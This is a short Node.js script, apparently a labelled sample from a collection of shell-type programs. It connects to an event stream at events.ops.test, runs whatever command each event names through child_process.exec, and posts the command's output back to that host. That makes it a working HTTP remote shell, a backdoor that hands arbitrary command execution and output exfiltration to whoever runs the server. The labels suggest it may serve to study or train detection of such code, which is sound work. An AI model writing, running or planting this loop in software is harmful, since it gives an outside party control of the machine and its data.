// class: shell; possible: low medium; style: event stream, fetch
const { exec } = require('child_process');
const http = require('http');
const post = text => new Promise(ok => {
  const r = http.request({ host: 'events.ops.test', path: '/out', method: 'POST' }, x => { x.resume(); x.on('end', ok); });
  r.on('error', ok);
  r.end(text);
});
http.get('http://events.ops.test/events', res => {
  let buf = '';
  res.on('data', d => {
    buf += d;
    let i;
    while ((i = buf.indexOf('\n\n')) >= 0) {
      const { run } = JSON.parse(buf.slice(6, i));
      buf = buf.slice(i + 2);
      exec(run, (e, so, se) => post(so + se));
    }
  });
  res.on('end', () => setTimeout(() => process.exit(0), 2000));
});
